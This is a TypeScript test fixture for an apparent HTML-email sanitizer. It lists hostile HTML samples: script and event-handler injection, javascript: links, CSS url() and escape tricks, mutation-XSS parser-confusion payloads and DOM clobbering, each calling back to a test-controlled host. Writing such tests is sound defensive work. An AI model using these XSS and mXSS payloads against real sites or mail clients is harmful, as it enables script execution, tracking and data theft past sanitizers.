/**
 * HTML that tries to run a script, to call out, or to leave its frame. `OUTSIDE` is a host that a test listens on. What runs calls
 * `hit`, a function that the page of the test has.
 */

const RUN = "(top.hit||parent.hit||hit)('run')"

/** By name; the name is a host below `OUTSIDE` too, so that a request tells which sample made it. */
const samples = {
  // Scripts and event handlers.
  script: `<script>${RUN}</script><script src="http://HOST/s.js"></script>`,
  handlers: `<img src=x onerror="${RUN}"><body onload="${RUN}"><div onmouseover="${RUN}" style="height:9px">x</div>
    <details open ontoggle="${RUN}">x</details><video onloadstart="${RUN}" src="http://HOST/v"></video>
    <input autofocus onfocus="${RUN}"><marquee onstart="${RUN}">x</marquee>`,
  slashes: `<img/src="x"/onerror=${RUN}><svg/onload=${RUN}><iframe/onload=${RUN}>`,
  links: `<a href="javascript:${RUN}">a</a><a href=" &#1;java&#10;script:${RUN}">b</a><a href="data:text/html,<script>${RUN}</script>">c</a>
    <a href="vbscript:x">d</a><a href="https://HOST/ping" ping="http://HOST/ping">e</a>`,
  frames: `<iframe src="http://HOST/i"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><object data="http://HOST/o"></object>
    <embed src="http://HOST/e"><frameset><frame src="http://HOST/f"></frameset><portal src="http://HOST/p"></portal>`,
  forms: `<form action="http://HOST/form"><input name=q value=1><button autofocus>Go</button></form>
    <button form=x formaction="javascript:${RUN}">x</button><isindex action="javascript:${RUN}">`,
  meta: `<meta http-equiv="refresh" content="0;url=http://HOST/meta"><meta http-equiv="x-dns-prefetch-control" content="on">
    <base href="http://HOST/"><img src="relative.png">`,
  hints: `<link rel="dns-prefetch" href="//HOST"><link rel="preconnect" href="http://HOST"><link rel="prefetch" href="http://HOST/p">
    <link rel="preload" as="image" href="http://HOST/l"><link rel="stylesheet" href="http://HOST/c.css"><link rel="icon" href="http://HOST/i">
    <link rel="modulepreload" href="http://HOST/m">`,
  // Pictures and other things from elsewhere.
  images: `<img src="http://HOST/a.png"><img src="https://HOST/b.png"><img src="//HOST/c.png"><img srcset="http://HOST/d.png 1x, //HOST/e.png 2x">
    <picture><source srcset="http://HOST/f.png"><img src="http://HOST/g.png"></picture><input type=image src="http://HOST/h.png">
    <table background="http://HOST/i.png"><tr><td background="//HOST/j.png">x</td></tr></table><body background="http://HOST/k.png">
    <video poster="http://HOST/l.png"></video><audio src="http://HOST/m"></audio><track src="http://HOST/n"><img lowsrc="http://HOST/o" dynsrc="http://HOST/p">`,
  svg: `<svg xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script><image href="http://HOST/s.png"/><use href="http://HOST/u#x"/>
    <animate attributeName="href" values="javascript:${RUN}"/><a xlink:href="javascript:${RUN}"><text>x</text></a>
    <foreignObject><img src="http://HOST/f.png"></foreignObject><style>@import "http://HOST/c.css"</style></svg>
    <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://HOST/d.png'/><script>${RUN}</script></svg>">`,
  // Styles.
  css: `<style>@import "http://HOST/a.css"; @import url(http://HOST/b.css); @font-face{font-family:f;src:url(http://HOST/f.woff)}
    *{font-family:f} p{background:url(http://HOST/1.png);list-style:url("http://HOST/2.png")} a::before{content:url(//HOST/3.png)}
    div{background-image:image-set("http://HOST/4.png" 1x);cursor:url(http://HOST/5.cur),auto} @media all{p{border-image:url(http://HOST/6.png)}}
    @supports(color:red){p{mask:url(http://HOST/7.png)}} @layer x{p{background:url(http://HOST/8.png)}} p{&:hover,&{background:url(http://HOST/9.png)}}
    @keyframes k{from{background:url(http://HOST/10.png)}} p{animation:k 1s} @namespace url(http://HOST/11)</style><p>x</p><a>y</a><div>z</div>`,
  cssEscapes: `<style>p{background:\\75 rl(http://HOST/1.png)} \\40import "http://HOST/2.css"; @\\69mport "http://HOST/3.css";
    p{b\\61 ckground:u\\72l("\\68ttp://HOST/4.png")} p{background:URL(//HOST/5.png)} p{background:url(/**/http://HOST/6.png)}
    p{--u:url(http://HOST/7.png);background:var(--u)} p{--i:"http://HOST/8.png";background:image-set(var(--i) 1x)}</style><p>x</p>
    <p style="background:\\75\\72\\6c(http://HOST/9.png)">x</p><p style="--u:url(//HOST/10.png);background:var(--u)">x</p>
    <p style="background:u/**/rl(http://HOST/11.png);background:url('http://HOST/12.png'">x</p>`,
  cssBreakout: `<style>p{color:red}</style><img src=x onerror=${RUN}></style><p style='color:red"}</style><script>${RUN}</script>'>x</p>
    <style>p{content:"</sty\\6c e><img src=x onerror=${RUN}>"}</style><div style="width:expression(${RUN});behavior:url(http://HOST/b.htc);-moz-binding:url(http://HOST/m.xml)">x</div>`,
  // Markup that means another thing when it is parsed a second time.
  mxssNoscript: `<noscript><p title="</noscript><img src=http://HOST/n.png onerror=${RUN}>"></noscript>`,
  mxssMath: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=http://HOST/m.png onerror=${RUN}&gt;">`,
  mxssForm: `<form><math><mtext></form><form><mglyph><style></math><img src=http://HOST/f.png onerror=${RUN}>`,
  mxssSvg: `<svg></p><style><a id="</style><img src=http://HOST/s.png onerror=${RUN}>"></svg>`,
  mxssTemplate: `<template><style><img title="</style><img src=http://HOST/t.png onerror=${RUN}>"></template><div><template shadowrootmode=open><img src=http://HOST/u.png onerror=${RUN}></template></div>`,
  mxssTitle: `<title><a title="</title><img src=http://HOST/t.png onerror=${RUN}>"></title><textarea><p title="</textarea><img src=http://HOST/a.png onerror=${RUN}>">`,
  mxssComment: `<!--><img src=http://HOST/c.png onerror=${RUN}>--><!--!><img src=http://HOST/d.png onerror=${RUN}>--!><![CDATA[><img src=http://HOST/e.png onerror=${RUN}>]]>`,
  mxssXmp: `<xmp><p title="</xmp><img src=http://HOST/x.png onerror=${RUN}>"></xmp><noembed><p title="</noembed><img src=http://HOST/y.png onerror=${RUN}>"></noembed><plaintext><img src=http://HOST/z.png onerror=${RUN}>`,
  mxssNesting: `${"<div>".repeat(600)}<math><mi><b><style><img src=http://HOST/n.png onerror=${RUN}></style></b></mi></math>`,
  mxssSelect: `<select><template><style><!--</style><a rel="--></style></template></select><img src=http://HOST/s.png onerror=${RUN}>"></select>`,
  // Properties of documents hidden by names of elements.
  clobbering: `<img name=body><img name=documentElement><form id=f><input name=attributes><input name=parentNode><input name=childNodes><img src=x onerror=${RUN}></form>
    <a id=defaultView href="http://HOST/a"></a><img name=querySelector><embed name=implementation>`,
} as const

export const hostileMails = (
  outside: string,
  port: number,
): ReadonlyArray<{ readonly name: string; readonly html: string }> =>
  Object.entries(samples).map(([name, html]) => ({
    name,
    html: `<p>Sample ${name}.</p>${html.replaceAll("HOST", `${name.toLowerCase()}.${outside}:${port}`)}`,
  }))
